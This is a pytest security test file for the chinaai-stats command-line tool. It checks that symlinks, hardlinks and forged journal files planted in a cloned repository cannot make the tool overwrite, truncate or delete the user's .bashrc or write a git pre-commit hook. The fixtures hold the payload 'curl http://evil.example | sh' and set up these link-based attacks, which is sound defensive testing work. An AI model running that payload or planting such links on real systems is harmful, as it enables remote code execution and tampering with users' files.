"""A clone is someone else's files: links and journals planted in it never reach outside.

git checks symbolic links out and ``git add -f`` commits them past ``.gitignore``, so a
forked clone can hold a link under any name chinaai-stats uses. Every case plants one,
runs the command a user would, and checks: exit 2 with one line, the user's files
outside the clone unchanged, and the clone itself unchanged.
"""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from chinaai_stats.core import journal
from tests.conftest import run_cli
from tests.hostile._helpers import one_line_refusal, tree, victim, with_changelog
from tests.test_validation import GOOD, write_rows


def _add(clone: Path, new: Path):
    return run_cli("add", str(new), "--table", "talent", "--datasets", str(clone / "datasets"))


@pytest.fixture
def setting(data_copy: Path, tmp_path_factory: pytest.TempPathFactory):
    """(clone, the CSV to add, the victim file, a snapshot of the user's home)."""
    clone = with_changelog(data_copy)
    home = tmp_path_factory.mktemp("home")
    bashrc, before = victim(home)
    new = write_rows(tmp_path_factory.mktemp("input") / "new.csv", [GOOD])
    return clone, new, bashrc, before


def test_a_planted_staged_copy_link_is_refused_and_bashrc_is_untouched(setting) -> None:
    clone, new, bashrc, home_before = setting
    link = clone / "datasets" / f".talent.csv{journal.STAGED_SUFFIX}"
    link.symlink_to(bashrc)
    before = tree(clone)
    one_line_refusal(_add(clone, new), str(link), "symbolic link")
    assert tree(bashrc.parent) == home_before
    assert tree(clone) == before
    assert not (clone / "datasets" / "talent.csv").is_symlink()


@pytest.mark.parametrize("kind", ["symlink", "hardlink"])
def test_a_planted_lock_link_is_refused_and_its_target_not_truncated(setting, kind) -> None:
    clone, new, bashrc, home_before = setting
    lock = clone / "datasets" / journal.LOCK_NAME
    if kind == "symlink":
        lock.symlink_to(bashrc)
    else:
        os.link(bashrc, lock)
    before = tree(clone)
    one_line_refusal(_add(clone, new), str(lock), "lock file")
    assert tree(bashrc.parent) == home_before
    assert tree(clone) == before


def test_a_dangling_lock_link_does_not_create_its_target(setting) -> None:
    clone, new, bashrc, home_before = setting
    lock = clone / "datasets" / journal.LOCK_NAME
    lock.symlink_to(bashrc.parent / "created-by-chinaai-stats")
    one_line_refusal(_add(clone, new), "symbolic link")
    assert tree(bashrc.parent) == home_before


def test_a_table_that_is_a_link_out_of_the_clone_is_not_replaced(setting) -> None:
    clone, new, bashrc, _ = setting
    table = clone / "datasets" / "talent.csv"
    outside = bashrc.parent / "talent.csv"
    outside.write_bytes(table.read_bytes())
    table.unlink()
    table.symlink_to(outside)
    home_before, before = tree(bashrc.parent), tree(clone)
    r = _add(clone, new)
    one_line_refusal(r, "talent.csv")
    assert tree(bashrc.parent) == home_before
    assert tree(clone) == before


def _forged_journal(clone: Path, state: str, target: str, staged: str, sha: str) -> Path:
    path = clone / "datasets" / journal.JOURNAL_NAME
    record = {
        "command": "add",
        "note": "",
        "pid": 1,
        "state": state,
        "files": [{"target": target, "staged": staged, "sha256": sha, "mode": 0o644}],
    }
    path.write_text(json.dumps(record), encoding="utf-8")
    return path


def test_a_forged_committed_journal_cannot_move_a_file_out_of_the_clone(setting) -> None:
    clone, _, bashrc, _ = setting
    payload = b"curl http://evil.example | sh\n"
    (clone / "datasets" / "payload").write_bytes(payload)
    rel_victim = os.path.relpath(bashrc, clone)
    _forged_journal(
        clone, "committed", rel_victim, "datasets/payload", hashlib.sha256(payload).hexdigest()
    )
    home_before, before = tree(bashrc.parent), tree(clone)
    for command in (["list"], ["show", "talent"]):
        r = run_cli(*command)
        one_line_refusal(r, "journal")
    assert tree(bashrc.parent) == home_before
    assert tree(clone) == before


def test_a_forged_prepared_journal_cannot_delete_a_file_outside(setting) -> None:
    clone, _, bashrc, _ = setting
    rel_victim = os.path.relpath(bashrc, clone)
    _forged_journal(clone, "prepared", "datasets/talent.csv", rel_victim, "0" * 64)
    home_before = tree(bashrc.parent)
    one_line_refusal(run_cli("list"), "journal")
    assert bashrc.exists()
    assert tree(bashrc.parent) == home_before


def test_a_forged_journal_cannot_write_into_git_hooks(setting) -> None:
    clone = setting[0]
    (clone / ".git" / "hooks").mkdir(parents=True)
    payload = b"#!/bin/sh\ncurl http://evil.example | sh\n"
    staged = clone / ".git" / "hooks" / f".pre-commit{journal.STAGED_SUFFIX}"
    staged.write_bytes(payload)
    _forged_journal(
        clone,
        "committed",
        ".git/hooks/pre-commit",
        f".git/hooks/.pre-commit{journal.STAGED_SUFFIX}",
        hashlib.sha256(payload).hexdigest(),
    )
    one_line_refusal(run_cli("list"), "journal")
    assert not (clone / ".git" / "hooks" / "pre-commit").exists()


def test_a_journal_that_is_a_link_is_refused(setting) -> None:
    clone, _, bashrc, home_before = setting
    (clone / "datasets" / journal.JOURNAL_NAME).symlink_to("/dev/zero")
    one_line_refusal(run_cli("list"), "journal", "symbolic link")
    assert tree(bashrc.parent) == home_before


def test_a_journal_tmp_link_is_removed_never_written_through(setting) -> None:
    clone, new, bashrc, home_before = setting
    (clone / "datasets" / journal.JOURNAL_TMP_NAME).symlink_to(bashrc)
    r = _add(clone, new)
    assert r.returncode == 0, r.stderr
    assert tree(bashrc.parent) == home_before
    assert not os.path.lexists(clone / "datasets" / journal.JOURNAL_TMP_NAME)


def test_a_datasets_folder_that_is_a_link_is_refused_for_writing(setting, tmp_path) -> None:
    clone, new, bashrc, _ = setting
    elsewhere = bashrc.parent / "datasets"
    (clone / "datasets").rename(elsewhere)
    (clone / "datasets").symlink_to(elsewhere)
    home_before = tree(bashrc.parent)
    r = run_cli("add", str(new), "--table", "talent", "--datasets", str(clone))
    one_line_refusal(r, "symbolic link")
    assert tree(bashrc.parent) == home_before
